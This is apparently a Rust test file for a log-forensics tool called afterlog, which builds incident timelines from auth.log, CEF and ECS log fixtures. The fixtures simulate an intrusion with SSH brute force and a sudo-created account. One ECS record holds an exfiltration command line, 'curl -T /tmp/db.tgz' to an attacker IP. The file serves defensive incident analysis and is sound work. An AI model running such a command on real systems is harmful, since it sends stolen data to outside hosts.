//! The command line end to end: exact field values of representative records from each
//! first format, time resolution (zone, inferred year), evidence read-back, `formats`.

use serde_json::Value;

use crate::util::*;

/// Ubuntu auth.log lines (rsyslog traditional format: no PRI, no year, local time).
const AUTH: &str = "\
Mar  2 10:12:03 bastion-01 sshd[2211]: Failed password for invalid user admin from 203.0.113.77 port 50514 ssh2
Mar  2 10:18:41 bastion-01 sshd[2240]: Accepted publickey for deploy from 203.0.113.77 port 50602 ssh2: ED25519 SHA256:Yc2Tq0lOT3a8d5oR6T8n6m0xJtq0u2w1d9m3cN2c4kE
Mar  2 10:19:30 bastion-01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/sbin/useradd -m svc-backup
Mar  2 10:21:02 bastion-01 useradd[2301]: new user: name=svc-backup, UID=1002, GID=1002, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/1
Mar  2 10:41:07 bastion-01 usermod[2420]: lock user 'deploy' password
";

/// PAN-OS style CEF behind an RFC 3164 header; `rt` carries the year and zone.
const CEF: &str = "<14>Mar  2 10:14:10 fw-edge-01 CEF:0|Palo Alto Networks|PAN-OS|10.2.4|vulnerability|THREAT|5|rt=Mar 02 2026 09:14:10 GMT deviceExternalId=013201001234 src=203.0.113.77 dst=10.0.1.10 sourceTranslatedAddress=203.0.113.77 destinationTranslatedAddress=10.0.1.10 cs1Label=Rule cs1=allow-ssh-bastion suser= duser= app=ssh act=alert spt=50514 dpt=22 proto=tcp cat=SSH Brute Force Attempt(40015) request=\\=x dvchost=fw-edge-01
";

/// ECS NDJSON (nested and dotted keys mixed, as Elasticsearch `_source` exports are).
const ECS: &str = r#"{"@timestamp":"2026-03-02T09:25:14.512Z","event":{"kind":"event","category":["authentication"],"type":["start"],"action":"ssh_login","outcome":"success"},"host":{"name":"db-01","ip":["10.0.2.20"]},"user.name":"deploy","source":{"ip":"10.0.1.10","port":41822},"process":{"name":"sshd","pid":3120}}
{"@timestamp":"2026-03-02T09:34:10.220Z","event.kind":"signal","kibana.alert.rule.name":"Potential Data Exfiltration via Curl","kibana.alert.severity":"high","kibana.alert.risk_score":73,"host":{"name":"db-01"},"user":{"name":"deploy"},"process":{"name":"curl","command_line":"curl -T /tmp/db.tgz https://203.0.113.77/upload","hash":{"sha256":"0a5c6ef1a1c2d2f1e7a3b1d2c4e5f6a7b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d"}},"destination":{"ip":"203.0.113.77","port":443}}
"#;

fn setup(dir: &TestDir) {
    dir.write("bastion-01-auth.log", AUTH);
    dir.write("fw-edge-01-cef.log", CEF);
    dir.write("elastic-db-01.ndjson", ECS);
}

fn by_line<'a>(evs: &'a [Value], input_suffix: &str, doc: &Value, line: u64) -> &'a Value {
    let inputs = doc["inputs"].as_array().unwrap();
    let idx = inputs
        .iter()
        .position(|i| i["path"].as_str().unwrap().ends_with(input_suffix))
        .unwrap() as u64;
    evs.iter()
        .find(|e| e["input"] == idx && e["evidence"][0]["line"] == line)
        .unwrap_or_else(|| panic!("no event for {input_suffix}:{line}"))
}

#[test]
fn first_formats_map_exact_fields_with_zone_and_inferred_year() {
    let dir = TestDir::new("fields");
    setup(&dir);
    let d = dir.path.to_str().unwrap();
    let doc = timeline([d, "--tz", "Europe/Berlin"]);
    assert_reconciled(&doc);
    let evs = events([d, "--tz", "Europe/Berlin"]);
    assert_eq!(evs.len(), 8);

    // Inputs are in path order; the auth.log year came from the other inputs' span.
    let inputs = doc["inputs"].as_array().unwrap();
    let names: Vec<&str> = inputs
        .iter()
        .map(|i| i["path"].as_str().unwrap().rsplit('/').next().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "bastion-01-auth.log",
            "elastic-db-01.ndjson",
            "fw-edge-01-cef.log"
        ]
    );
    let auth = &inputs[0];
    assert_eq!(auth["format"], "rfc3164");
    assert_eq!(auth["year"], 2026);
    assert_eq!(auth["ts_inferred_year"], 5);
    assert_eq!(auth["ts_assumed_tz"], 5);
    assert_eq!(auth["first"], "2026-03-02T09:12:03.000000Z");
    assert_eq!(auth["last"], "2026-03-02T09:41:07.000000Z");
    assert_eq!(inputs[1]["format"], "ndjson");
    assert_eq!(inputs[2]["format"], "cef");
    assert_eq!(inputs[2]["ts_assumed_tz"], 0);
    assert_eq!(inputs[2]["ts_inferred_year"], 0);

    // sshd failure for an invalid user: local 10:12:03 CET = 09:12:03Z.
    let e = by_line(&evs, "auth.log", &doc, 1);
    assert_eq!(e["ts"], "2026-03-02T09:12:03.000000Z");
    assert_eq!(
        e["ts_quality"],
        serde_json::json!(["assumed_tz", "inferred_year"])
    );
    assert_eq!(e["ts_original"], "Mar  2 10:12:03");
    assert_eq!(e["kind"], "authentication");
    assert_eq!(e["action"], "ssh_login");
    assert_eq!(e["outcome"], "failure");
    assert_eq!(e["user"], "admin");
    assert_eq!(e["src_ip"], "203.0.113.77");
    assert_eq!(e["host"], "bastion-01");
    assert_eq!(e["fields"]["app"], "sshd");
    assert_eq!(e["fields"]["pid"], "2211");

    let e = by_line(&evs, "auth.log", &doc, 2);
    assert_eq!(e["ts"], "2026-03-02T09:18:41.000000Z");
    assert_eq!(e["outcome"], "success");
    assert_eq!(e["user"], "deploy");
    assert_eq!(e["src_ip"], "203.0.113.77");
    assert!(
        e["summary"].as_str().unwrap().contains("publickey"),
        "{}",
        e["summary"]
    );
    assert!(
        e["summary"].as_str().unwrap().contains("port 50602"),
        "{}",
        e["summary"]
    );

    let e = by_line(&evs, "auth.log", &doc, 3);
    assert_eq!(e["kind"], "process");
    assert_eq!(e["action"], "sudo");
    assert_eq!(e["user"], "deploy");
    assert_eq!(e["process"], "/usr/sbin/useradd -m svc-backup");

    let e = by_line(&evs, "auth.log", &doc, 4);
    assert_eq!(e["kind"], "account_change");
    assert_eq!(e["action"], "user_created");
    assert_eq!(e["user"], "svc-backup");

    let e = by_line(&evs, "auth.log", &doc, 5);
    assert_eq!(e["kind"], "remediation");
    assert_eq!(e["action"], "account_disabled");
    assert_eq!(e["user"], "deploy");

    // CEF: time from rt (GMT, with year), fields from the extension, header unescaped.
    let e = by_line(&evs, "cef.log", &doc, 1);
    assert_eq!(e["ts"], "2026-03-02T09:14:10.000000Z");
    assert_eq!(e["ts_quality"], serde_json::json!([]));
    assert_eq!(e["ts_field"], "rt");
    assert_eq!(e["ts_original"], "Mar 02 2026 09:14:10 GMT");
    assert_eq!(e["kind"], "finding");
    assert_eq!(e["severity"], "medium");
    assert_eq!(e["src_ip"], "203.0.113.77");
    assert_eq!(e["dst_ip"], "10.0.1.10");
    assert_eq!(e["action"], "alert");
    assert!(
        e.get("host").is_none(),
        "the firewall observed it; it is not the host: {e}"
    );
    assert!(e["summary"]
        .as_str()
        .unwrap()
        .starts_with("Palo Alto Networks PAN-OS on fw-edge-01: THREAT"));
    assert!(e.get("user").is_none(), "empty suser/duser are absent: {e}");
    assert_eq!(e["fields"]["cef.device_vendor"], "Palo Alto Networks");
    assert_eq!(e["fields"]["cat"], "SSH Brute Force Attempt(40015)");
    assert_eq!(e["fields"]["request"], "=x");
    assert_eq!(e["fields"]["hostname"], "fw-edge-01");
    assert_eq!(e["fields"]["pri"], "14");

    // ECS: nested and dotted keys alike.
    let e = by_line(&evs, "ndjson", &doc, 1);
    assert_eq!(e["ts"], "2026-03-02T09:25:14.512000Z");
    assert_eq!(e["ts_field"], "@timestamp");
    assert_eq!(e["kind"], "authentication");
    assert_eq!(e["action"], "ssh_login");
    assert_eq!(e["outcome"], "success");
    assert_eq!(e["host"], "db-01");
    assert_eq!(e["user"], "deploy");
    assert_eq!(e["src_ip"], "10.0.1.10");
    assert_eq!(e["process"], "sshd");
    assert_eq!(e["fields"]["host.ip"], "10.0.2.20");
    assert_eq!(e["fields"]["event.category"], "authentication");
    let e = by_line(&evs, "ndjson", &doc, 2);
    assert_eq!(e["kind"], "finding");
    assert_eq!(e["severity"], "high");
    assert_eq!(e["dst_ip"], "203.0.113.77");
    assert_eq!(e["process"], "curl");
    assert_eq!(
        e["hash"],
        "0a5c6ef1a1c2d2f1e7a3b1d2c4e5f6a7b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d"
    );
}

#[test]
fn every_evidence_entry_reads_back_its_record_and_inputs_are_hashed() {
    let dir = TestDir::new("evidence");
    setup(&dir);
    let doc = timeline([dir.path.to_str().unwrap(), "--tz", "Europe/Berlin"]);
    let inputs = doc["inputs"].as_array().unwrap();
    for input in inputs {
        let path = std::path::Path::new(input["path"].as_str().unwrap());
        let bytes = std::fs::read(path).unwrap();
        use sha2::Digest;
        let want: String = sha2::Sha256::digest(&bytes)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert_eq!(input["sha256"], want.as_str());
        assert_eq!(input["bytes"], bytes.len() as u64);
    }
    let mut seen = 0;
    for inc in doc["incidents"].as_array().unwrap() {
        for e in inc["timeline"].as_array().unwrap() {
            for ev in e["evidence"].as_array().unwrap() {
                let input = &inputs[ev["input"].as_u64().unwrap() as usize];
                let path = std::path::Path::new(input["path"].as_str().unwrap());
                let rec = cited(
                    path,
                    ev["offset"].as_u64().unwrap(),
                    ev["length"].as_u64().unwrap(),
                );
                let text = std::fs::read_to_string(path).unwrap();
                let line = text
                    .lines()
                    .nth(ev["line"].as_u64().unwrap() as usize - 1)
                    .unwrap();
                assert_eq!(String::from_utf8(rec).unwrap(), line);
                seen += 1;
            }
        }
    }
    assert!(seen >= 6, "incident timelines cite records: {seen}");
}

#[test]
fn first_incident_has_detection_compromise_and_containment() {
    let dir = TestDir::new("incident");
    setup(&dir);
    let doc = timeline([dir.path.to_str().unwrap(), "--tz", "Europe/Berlin"]);
    let incs = doc["incidents"].as_array().unwrap();
    assert_eq!(incs.len(), 1, "{incs:#?}");
    let inc = &incs[0];
    assert_eq!(inc["id"], "INC-1");
    assert_eq!(inc["severity"], "high");
    let p = &inc["phases"];
    assert_eq!(p["compromise"]["start"], "2026-03-02T09:12:03.000000Z");
    assert_eq!(p["detection"]["start"], "2026-03-02T09:14:10.000000Z");
    assert_eq!(p["detection"]["end"], "2026-03-02T09:34:10.220000Z");
    assert_eq!(p["containment"]["start"], "2026-03-02T09:41:07.000000Z");
    assert_eq!(p["triage"], Value::Null);
    assert_eq!(inc["metrics"]["time_to_detect_s"], 127);
    assert_eq!(inc["metrics"]["time_to_contain_s"], 1617);
    assert_eq!(inc["metrics"]["dwell_time_s"], 1744);
    assert_eq!(inc["metrics"]["time_to_resolve_s"], Value::Null);
    let hosts: Vec<&str> = inc["scope"]["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h.as_str().unwrap())
        .collect();
    assert_eq!(
        hosts,
        ["bastion-01", "db-01"],
        "the firewall is an observer, not in scope"
    );
    assert!(inc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["message"] == "no resolution record found in these exports"));
}

#[test]
fn formats_lists_and_detects_with_reasons() {
    let out = stdout_of(["formats"], 0);
    for name in ["rfc3164", "rfc5424", "cef", "ndjson"] {
        assert!(
            out.lines().any(|l| l.starts_with(name)),
            "{name} listed:\n{out}"
        );
    }
    let dir = TestDir::new("formats");
    setup(&dir);
    let out = stdout_of(["formats", dir.path.to_str().unwrap()], 0);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 3, "{out}");
    assert!(lines[0].ends_with(
        "bastion-01-auth.log: rfc3164 — 5 of the first 5 records read as rfc3164 (BSD timestamps, no <PRI>: a file written by syslogd)"
    ), "{}", lines[0]);
    assert!(
        lines[1].contains("elastic-db-01.ndjson: ndjson — 2 of the first 2 records"),
        "{}",
        lines[1]
    );
    assert!(lines[2].contains("fw-edge-01-cef.log: cef — 1 of the first 1 records read as cef (CEF behind a syslog header)"), "{}", lines[2]);
}

#[test]
fn forced_format_is_recorded() {
    let dir = TestDir::new("forced");
    let p = dir.write("x.txt", AUTH);
    let doc = timeline([p.to_str().unwrap(), "--format", "rfc3164", "--year", "2025"]);
    assert_eq!(
        doc["inputs"][0]["detected_by"],
        "forced by --format rfc3164"
    );
    assert_eq!(doc["inputs"][0]["first"], "2025-03-02T10:12:03.000000Z");
    assert_eq!(doc["generator"]["options"]["year"], 2025);
    assert_eq!(doc["generator"]["options"]["tz"], "UTC");
}

#[test]
fn help_explains_the_options() {
    let out = stdout_of(["timeline", "--help"], 0);
    for opt in [
        "--tz",
        "--year",
        "--format",
        "--ioc",
        "--threads",
        "--output",
    ] {
        assert!(out.contains(opt), "{opt} in help:\n{out}");
    }
    assert!(out.contains("IANA"));
    let top = stdout_of(["--help"], 0);
    assert!(top.contains("Exit status"));
    assert!(top.contains("AFTERLOG_TRACE=1"));
}

/// `AFTERLOG_TRACE` names the stages on stderr, in order, and leaves the output as it was.
#[test]
fn stage_trace_goes_to_stderr_and_changes_nothing() {
    let dir = repo().join("fixtures/sample-incident");
    let plain = afterlog([
        "timeline".as_ref(),
        dir.as_os_str(),
        "--tz".as_ref(),
        "Europe/Berlin".as_ref(),
    ]);
    let traced = std::process::Command::new(env!("CARGO_BIN_EXE_afterlog"))
        .args([
            "timeline".as_ref(),
            dir.as_os_str(),
            "--tz".as_ref(),
            "Europe/Berlin".as_ref(),
        ])
        .env("AFTERLOG_TRACE", "1")
        .output()
        .unwrap();
    assert_eq!(traced.stdout, plain.stdout);
    let err = String::from_utf8_lossy(&traced.stderr);
    let stages: Vec<&str> = err
        .lines()
        .filter_map(|l| l.strip_prefix("afterlog trace:"))
        .map(|l| l.split_once(" s  ").map_or(l, |(_, what)| what))
        .collect();
    let first = |name: &str| stages.iter().position(|s| s.starts_with(name));
    let order: Vec<Option<usize>> = [
        "open",
        "pass 1",
        "scan",
        "correlated",
        "timeline rendered",
        "timeline written",
    ]
    .iter()
    .map(|n| first(n))
    .collect();
    assert!(order.iter().all(Option::is_some), "stages: {stages:?}");
    assert!(order.windows(2).all(|w| w[0] < w[1]), "stages: {stages:?}");
    assert!(!String::from_utf8_lossy(&plain.stderr).contains("afterlog trace"));
}

/// The README's first command must work as written: `cargo run` needs to know which of the
/// package's binaries is the tool.
#[test]
fn readme_commands_name_a_runnable_binary() {
    let manifest = std::fs::read_to_string(repo().join("Cargo.toml")).unwrap();
    assert!(manifest.contains("default-run = \"afterlog\""));
    let readme = std::fs::read_to_string(repo().join("README.md")).unwrap();
    assert!(readme.contains(
        "cargo run --release -- timeline fixtures/sample-incident --tz Europe/Berlin -o timeline.json"
    ));
    assert!(readme.contains("cargo test --workspace"));
}
